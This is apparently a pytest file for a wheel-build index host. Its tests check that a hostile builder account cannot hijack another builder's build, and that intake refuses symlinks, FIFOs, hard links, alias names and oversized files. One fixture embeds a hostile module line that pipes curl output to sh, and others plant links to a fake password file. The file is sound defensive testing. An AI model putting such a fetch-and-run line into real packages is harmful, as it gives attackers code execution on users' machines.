"""A build is answered by one builder account only, and the index host reads only plain files.

The attack (issue 30, point 2): build ids are sequential and nothing tied a build to the builder it
was handed to, so one builder could make ``incoming/<another's id>/`` first and have its files
recorded as the other's build, or drop a hand-back marker for anyone's. Now each SFTP account writes
only into its own folder (``<incoming>/<account>/``), the first account that answers a build is bound
to it in the build row, and whatever any other account sends for it is refused. Each test uses two
real accounts, pi-a (honest) and pi-b (hostile), on the real SFTP server, and ends by checking the
catalog and the published tree.
"""

from __future__ import annotations

import gzip
import hashlib
import logging
import os
import uuid
from datetime import timedelta

import pytest

from support.build_world import SFTPServer, add_release, use_targets
from support.received import exact_wheel
from wheelwright.builds import incoming, transfer
from wheelwright.builds.analysis import FileInfo, analyse_wheel
from wheelwright.builds.builder import BuildOutcome
from wheelwright.builds.queue import claim_wave
from wheelwright.config import parse_builder_accounts

TARGET = "cp39-armv7l"
WHEEL = "foo-1.0-py3-none-any.whl"
SECRET = b"catalog-password: hunter2\n"


@pytest.fixture
def index_host(tmp_path):
    """The index host's SFTP endpoint with two accounts, fresh for each test (build ids restart with
    each test's catalog)."""
    server = SFTPServer(tmp_path / "index-host", tmp_path / "keys", accounts=("pi-a", "pi-b")).start()
    yield server
    server.stop()


@pytest.fixture
def build(catalog):
    """foo 1.0, its build claimed for the Pi target: what the index host handed out."""
    use_targets(catalog)
    add_release(catalog, "foo", "1.0")
    [claimed] = claim_wave(catalog, TARGET, 1)
    return dict(claimed)


@pytest.fixture
def output(tmp_path):
    return tmp_path / "www"


def built(tmp_path, request, module: bytes) -> BuildOutcome:
    """What a worker built for ``request``: a wheel whose module says ``module``, its log."""
    folder = tmp_path / f"built-{uuid.uuid4().hex[:8]}"
    folder.mkdir()
    wheel = exact_wheel(folder, WHEEL, {"foo/__init__.py": module,
                                        "foo-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: foo\n"
                                                                      b"Version: 1.0\n"})
    info = analyse_wheel(wheel, "foo", "1.0")
    log = folder / f"{request['build_id']}.txt.gz"
    log.write_bytes(gzip.compress(b"the build's output\n"))
    return BuildOutcome(build_id=request["build_id"], package="foo", version="1.0", target=request["target"],
                        abi=request["abi"], status="success", reason=None, builder="pi", duration=3.0,
                        log=FileInfo(log.name, hashlib.sha256(log.read_bytes()).hexdigest(), log.stat().st_size),
                        wheels=[info], files_dir=folder)


def send(index_host, account: str, outcome: BuildOutcome) -> None:
    """``account`` sends ``outcome`` over its own SFTP session, as build_and_send does."""
    ssh, sftp = index_host.client(account)
    try:
        remote = f"/incoming/{account}"
        sent = transfer.send_outcome(sftp, outcome, remote)
        incoming.send_manifest(sftp, sent, remote)
    finally:
        sftp.close()
        ssh.close()


def hand_back(index_host, account: str, build_id: int) -> None:
    ssh, sftp = index_host.client(account)
    try:
        incoming.send_hand_back(sftp, f"/incoming/{account}", build_id)
    finally:
        sftp.close()
        ssh.close()


def row(catalog, build_id):
    result = catalog.execute("SELECT status, builder_account, reason FROM builds WHERE build_id = %s",
                             (build_id,)).fetchone()
    catalog.commit()
    return result


def published(output) -> bytes | None:
    wheel = output / "simple" / "foo" / WHEEL
    return wheel.read_bytes() if wheel.exists() else None


def module_of(wheel_bytes: bytes) -> bytes:
    import io
    import zipfile
    return zipfile.ZipFile(io.BytesIO(wheel_bytes)).read("foo/__init__.py")


def test_another_account_cannot_answer_a_build_bound_to_its_builder(index_host, catalog, build, output,
                                                                     tmp_path, caplog):
    send(index_host, "pi-a", built(tmp_path, build, b"honest = True\n"))
    # the index host looks (the next run's sweep): pi-a answered first, the build is pi-a's
    assert incoming.sweep(catalog, index_host.incoming, output).summary()["recorded"] == 0, "not settled yet"
    assert row(catalog, build["build_id"])[:2] == ("building", "pi-a")
    # pi-b answers the same build id from its own account, and hands it back too
    send(index_host, "pi-b", built(tmp_path, build, b"import os; os.system('curl evil | sh')\n"))
    hand_back(index_host, "pi-b", build["build_id"])

    with caplog.at_level(logging.WARNING):
        changed = incoming.record_arrival(catalog, build, index_host.incoming, output)

    assert changed == ["foo"]
    assert row(catalog, build["build_id"])[:2] == ("success", "pi-a")
    assert module_of(published(output)) == b"honest = True\n", "the published wheel is pi-a's"
    assert any("refused what builder account pi-b sent" in r.getMessage() for r in caplog.records)
    assert not (index_host.incoming / "pi-b" / str(build["build_id"])).exists(), "pi-b's answer is removed"
    assert not (index_host.incoming / "pi-a" / str(build["build_id"])).exists()


def test_a_hand_back_from_another_account_changes_nothing(index_host, catalog, build, output, tmp_path):
    send(index_host, "pi-a", built(tmp_path, build, b"honest = True\n"))
    incoming.sweep(catalog, index_host.incoming, output)          # binds the build to pi-a
    hand_back(index_host, "pi-b", build["build_id"])
    swept = incoming.sweep(catalog, index_host.incoming, output)
    assert swept.handed_back == [] and row(catalog, build["build_id"])[:2] == ("building", "pi-a")
    assert incoming.record_arrival(catalog, build, index_host.incoming, output) == ["foo"]
    assert module_of(published(output)) == b"honest = True\n"


def test_two_accounts_answering_before_the_index_host_looks_are_both_refused(index_host, catalog, build,
                                                                           output, tmp_path):
    send(index_host, "pi-b", built(tmp_path, build, b"evil = True\n"))
    send(index_host, "pi-a", built(tmp_path, build, b"honest = True\n"))

    assert incoming.record_arrival(catalog, build, index_host.incoming, output) is None
    status, account, reason = row(catalog, build["build_id"])
    assert (status, account) == ("lost", None) and "several builder accounts (pi-a, pi-b)" in reason
    assert published(output) is None and catalog.execute("SELECT count(*) FROM wheels").fetchone() == (0,)
    assert [dict(r)["package"] for r in claim_wave(catalog, TARGET, 5)] == ["foo"], "it is built again"
    assert not any(index_host.incoming.joinpath(a, str(build["build_id"])).exists() for a in ("pi-a", "pi-b"))


def test_an_account_answers_only_the_targets_the_index_host_gives_it(index_host, catalog, build, output,
                                                                   tmp_path):
    """With WHEELWRIGHT_BUILDER_ACCOUNTS set, pi-b (another target's builder) is refused even when
    it answers first, before the honest builder has finished."""
    accounts = parse_builder_accounts(f"pi-a:{TARGET} pi-b:cp311-armv7l")
    may_answer = lambda account, target: target in dict(accounts).get(account, ())  # noqa: E731
    send(index_host, "pi-b", built(tmp_path, build, b"evil = True\n"))
    incoming.sweep(catalog, index_host.incoming, output, may_answer=may_answer)
    assert row(catalog, build["build_id"])[:2] == ("building", None)
    assert not (index_host.incoming / "pi-b" / str(build["build_id"])).exists()

    send(index_host, "pi-a", built(tmp_path, build, b"honest = True\n"))
    assert incoming.record_arrival(catalog, build, index_host.incoming, output,
                                   may_answer=may_answer) == ["foo"]
    assert row(catalog, build["build_id"])[:2] == ("success", "pi-a")
    assert module_of(published(output)) == b"honest = True\n"


# --- intake reads plain files only --------------------------------------------------------------------

@pytest.fixture
def secret(tmp_path):
    path = tmp_path / "catalog-password"
    path.write_bytes(SECRET)
    return path


def _plant(index_host, build, tmp_path, plant) -> None:
    """pi-a's honest upload, then one of its files swapped for something else (as a server that let
    links in would allow)."""
    send(index_host, "pi-a", built(tmp_path, build, b"honest = True\n"))
    plant(index_host.incoming / "pi-a" / str(build["build_id"]))


@pytest.mark.parametrize("what", ["wheel as a link", "log as a link", "outcome as a link", "wheel as a FIFO",
                                  "wheel as a hard link", "folder as a link"])
def test_intake_never_follows_a_link_or_reads_a_special_file(index_host, catalog, build, output, tmp_path,
                                                             secret, what):
    build_id = build["build_id"]

    def plant(folder):
        name = {"log as a link": f"{build_id}.txt.gz", "outcome as a link": incoming.MANIFEST}.get(what, WHEEL)
        if what == "folder as a link":
            moved = folder.with_name("elsewhere")
            folder.rename(moved)
            folder.symlink_to(moved)
            return
        (folder / name).unlink()
        if what == "wheel as a FIFO":
            os.mkfifo(folder / name)
        elif what == "wheel as a hard link":
            os.link(secret, folder / name)
        else:
            (folder / name).symlink_to(secret)

    _plant(index_host, build, tmp_path, plant)
    try:
        changed = incoming.record_arrival(catalog, build, index_host.incoming, output)
    except transfer.TransferError as exc:
        assert "cannot be read" in str(exc) or "not" in str(exc)
        changed = None
    status, account, reason = row(catalog, build_id)
    assert status in ("lost", "retry", "failure", "building"), (status, reason)
    assert status != "success" and changed in (None, [], ["foo"])
    assert published(output) is None, "nothing of it is published"
    assert not output.exists() or not any(SECRET in p.read_bytes() for p in output.rglob("*") if p.is_file())
    assert secret.read_bytes() == SECRET
    staging = index_host.incoming / ".intake"
    assert not staging.exists() or list(staging.iterdir()) == [], "no copy of anything is left behind"


def test_a_sweep_is_not_led_out_of_the_incoming_folder_by_links(index_host, catalog, build, output, tmp_path):
    elsewhere = tmp_path / "elsewhere"
    (elsewhere / str(build["build_id"])).mkdir(parents=True)
    (elsewhere / str(build["build_id"]) / "keep.txt").write_text("not the index host's to remove")
    (index_host.incoming / "pi-c").symlink_to(elsewhere)               # an "account" that is a link
    (index_host.incoming / "pi-a" / "999999").symlink_to(elsewhere)   # a "build folder" that is a link
    try:
        incoming.sweep(catalog, index_host.incoming, output, settle=timedelta(0))
        assert (elsewhere / str(build["build_id"]) / "keep.txt").exists()
    finally:
        (index_host.incoming / "pi-c").unlink()
        (index_host.incoming / "pi-a" / "999999").unlink()


def test_an_outcome_too_large_to_be_one_is_refused_unread(index_host, catalog, build, output):
    folder = index_host.incoming / "pi-a" / str(build["build_id"])
    folder.mkdir()
    with open(folder / incoming.MANIFEST, "wb") as f:
        f.truncate(incoming.MAX_MANIFEST_BYTES + 1)
    with pytest.raises(transfer.TransferError, match="over"):
        incoming.record_arrival(catalog, build, index_host.incoming, output)
    assert row(catalog, build["build_id"])[0] == "lost" and published(output) is None


def test_a_second_name_for_a_build_folder_is_not_taken_for_it(index_host, catalog, build, output, tmp_path):
    """``017`` (or ``١٧``) is not build 17: only the folder named as the index host names it counts."""
    build_id = build["build_id"]
    for alias in (f"0{build_id}", "".join(chr(0x0660 + int(d)) for d in str(build_id))):
        (index_host.incoming / "pi-b" / alias).mkdir()
        (index_host.incoming / "pi-b" / alias / incoming.HANDED_BACK).touch()
    incoming.sweep(catalog, index_host.incoming, output)
    assert row(catalog, build_id)[:2] == ("building", None), "no alias bound or handed the build back"


def test_a_file_larger_than_any_build_sends_is_refused_before_it_is_copied(tmp_path):
    folder = tmp_path / "incoming" / "pi-a" / "7"
    folder.mkdir(parents=True)
    huge = folder / WHEEL
    with open(huge, "wb") as f:
        f.truncate(transfer.MAX_RECEIVED + 1)          # sparse: no disk is spent
    with pytest.raises(transfer.TransferError, match="more than any file a build may send"):
        transfer.accept(folder, [(WHEEL, "0" * 64, transfer.MAX_RECEIVED + 1)])
    assert list((tmp_path / "incoming" / ".intake").iterdir()) == [], "nothing was copied"


def test_copies_a_crashed_record_step_left_are_removed_by_the_next_sweep(index_host, catalog, output):
    left = index_host.incoming / ".intake" / "pi-a.7.x"
    left.mkdir(parents=True)
    (left / WHEEL).write_bytes(b"half a copy")
    old = (incoming.STALE_COPIES + timedelta(hours=1)).total_seconds()
    os.utime(left, (os.path.getmtime(left) - old,) * 2)
    incoming.sweep(catalog, index_host.incoming, output)
    assert not left.exists()
